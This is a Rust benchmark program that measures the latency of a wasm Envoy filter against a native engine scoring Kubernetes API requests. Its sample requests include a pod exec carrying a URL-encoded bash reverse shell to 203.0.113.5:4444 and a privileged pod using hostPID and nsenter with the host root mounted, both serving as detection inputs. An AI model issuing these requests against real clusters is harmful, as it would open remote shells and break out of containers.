//! µs per request of the Envoy filter under the proxy-wasm host (wasmtime, Cranelift), next to
//! the native core scoring the same request record. Each request runs the whole Envoy flow:
//! context create, request headers (and body), the upstream's response through the response
//! callbacks, on_log, on_done, on_delete.
//!
//! ```sh
//! cargo run --release -p host-tests --bin envoy-bench [-- ROUNDS REQUESTS]
//! ```
//! Prints a markdown table: best and median of ROUNDS rounds (default 7) of REQUESTS requests
//! (default 2000) per case; the machine is shared, so the best round is the steadier number.

use std::time::Instant;

use cadet_core::{Config, Engine};
use host_tests::proxy_wasm_host::{Options, Request, Vm};
use serde_json::{json, Value};

struct Case {
    name: &'static str,
    method: &'static str,
    path: String,
    headers: Vec<(&'static str, String)>,
    body: Vec<u8>,
}

fn record(c: &Case, id: &str) -> String {
    let mut headers = serde_json::Map::new();
    for (k, v) in &c.headers {
        headers.insert((*k).into(), Value::String(v.clone()));
    }
    let mut r = json!({"auditID": id, "method": c.method, "path": c.path, "headers": headers, "source_address": "10.20.4.11:51234"});
    if !c.body.is_empty() {
        r["body"] = Value::String(String::from_utf8_lossy(&c.body).into_owned());
    }
    r.to_string()
}

fn request(c: &Case, id: &str) -> Request {
    let hs: Vec<(&str, &str)> = c.headers.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let mut r = Request::new(c.method, &c.path, &hs);
    r.headers
        .push((b"x-request-id".to_vec(), id.as_bytes().to_vec()));
    if !c.body.is_empty() {
        r.body = c.body.chunks(16 * 1024).map(|b| b.to_vec()).collect();
    }
    r
}

fn cases() -> Vec<Case> {
    let kubectl = || {
        (
            "user-agent",
            "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46".to_string(),
        )
    };
    let authority = || (":authority", "api.k8s.corp.example:443".to_string());
    let pod = json!({"apiVersion":"v1","kind":"Pod","metadata":{"name":"x","namespace":"default"},
        "spec":{"hostPID":true,"containers":[{"name":"x","image":"alpine:3.20","command":["nsenter","-t","1","-m","--","bash"],
        "securityContext":{"privileged":true},"volumeMounts":[{"name":"h","mountPath":"/host"}]}],
        "volumes":[{"name":"h","hostPath":{"path":"/"}}]}});
    let env: Vec<Value> = (0..120).map(|i| json!({"name": format!("SETTING_{i}"), "value": format!("value-{i}-abcdefghijklmnopqrstuvwxyz")})).collect();
    let deployment = json!({"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"checkout","namespace":"shop"},
        "spec":{"replicas":3,"selector":{"matchLabels":{"app":"checkout"}},"template":{"metadata":{"labels":{"app":"checkout"}},
        "spec":{"containers":[{"name":"checkout","image":"registry.corp.example/shop/checkout:2.4.1","env":env}]}}}});
    let mut big = deployment.clone();
    let env64: Vec<Value> = (0..1000).map(|i| json!({"name": format!("SETTING_{i}"), "value": format!("value-{i}-abcdefghijklmnopqrstuvwxyz")})).collect();
    big["spec"]["template"]["spec"]["containers"][0]["env"] = Value::Array(env64);
    vec![
        Case {
            name: "exec with a reverse shell (SPDY upgrade, no body)",
            method: "POST",
            path: "/api/v1/namespaces/prod/pods/web-0/exec?command=sh&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.5%2F4444%200%3E%261&container=web&stdin=true&tty=true".into(),
            headers: vec![authority(), kubectl(), ("connection", "Upgrade".into()), ("upgrade", "SPDY/3.1".into())],
            body: vec![],
        },
        Case {
            name: "kubectl get pods (no body)",
            method: "GET",
            path: "/api/v1/namespaces/shop/pods?limit=500".into(),
            headers: vec![authority(), kubectl()],
            body: vec![],
        },
        Case {
            name: "controller watch (no body; the prefilter rejects it)",
            method: "GET",
            path: "/api/v1/pods?allowWatchBookmarks=true&resourceVersion=812734&watch=true".into(),
            headers: vec![authority(), ("user-agent", "kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46/shared-informers".into())],
            body: vec![],
        },
        Case {
            name: "privileged pod create (0.4 KB body)",
            method: "POST",
            path: "/api/v1/namespaces/default/pods".into(),
            headers: vec![authority(), kubectl(), ("content-type", "application/json".into())],
            body: pod.to_string().into_bytes(),
        },
        Case {
            name: "deployment create (8 KB body)",
            method: "POST",
            path: "/apis/apps/v1/namespaces/shop/deployments".into(),
            headers: vec![authority(), kubectl(), ("content-type", "application/json".into())],
            body: deployment.to_string().into_bytes(),
        },
        Case {
            name: "deployment create (64 KB body)",
            method: "POST",
            path: "/apis/apps/v1/namespaces/shop/deployments".into(),
            headers: vec![authority(), kubectl(), ("content-type", "application/json".into())],
            body: big.to_string().into_bytes(),
        },
    ]
}

fn stats(mut v: Vec<f64>) -> (f64, f64) {
    v.sort_by(|a, b| a.partial_cmp(b).unwrap());
    (v[0], v[v.len() / 2])
}

fn main() {
    let args: Vec<usize> = std::env::args()
        .skip(1)
        .filter_map(|a| a.parse().ok())
        .collect();
    let rounds = args.first().copied().unwrap_or(7);
    let n = args.get(1).copied().unwrap_or(2000);
    let engine = wasmtime::Engine::default();
    let module = wasmtime::Module::from_file(&engine, env!("CADET_ENVOY_WASM")).expect("module");
    let options = Options {
        plugin_config: br#"{"mode":"tag"}"#.to_vec(),
        ..Options::default()
    };
    let mut vm = Vm::start(&engine, &module, options).expect("vm");
    let mut native = Engine::new(&Config::default()).unwrap();
    println!("| request | body bytes | filter µs/request best (median) | native score µs best (median) | filter / native | verdict |");
    println!("|---|---:|---:|---:|---:|---|");
    for c in cases() {
        let req = request(&c, "bench-1");
        let rec = record(&c, "bench-1");
        let out = vm.request(&req);
        assert!(
            out.trap.is_none() && !out.hung && out.upstream.is_some(),
            "{}: {out:?}",
            c.name
        );
        let score = out.upstream_header("x-cadet-score").unwrap();
        let want = native.score(rec.as_bytes());
        assert_eq!(
            score,
            want.score.to_string(),
            "{}: filter and native differ",
            c.name
        );
        for _ in 0..n / 10 {
            vm.request(&req);
            native.score(rec.as_bytes());
        }
        let (mut f, mut s) = (Vec::new(), Vec::new());
        for _ in 0..rounds {
            let t = Instant::now();
            for _ in 0..n {
                std::hint::black_box(vm.request(&req));
            }
            f.push(t.elapsed().as_secs_f64() * 1e6 / n as f64);
            let t = Instant::now();
            for _ in 0..n {
                std::hint::black_box(native.score(std::hint::black_box(rec.as_bytes())));
            }
            s.push(t.elapsed().as_secs_f64() * 1e6 / n as f64);
        }
        let ((fb, fm), (sb, sm)) = (stats(f), stats(s));
        println!(
            "| {} | {} | {fb:.1} ({fm:.1}) | {sb:.2} ({sm:.2}) | {:.0}x | {} {} |",
            c.name,
            c.body.len(),
            fb / sb,
            want.score,
            want.severity.as_str()
        );
    }
    println!("\n{rounds} rounds x {n} requests per case; wasmtime 48 (Cranelift, default config), tag mode.");
}
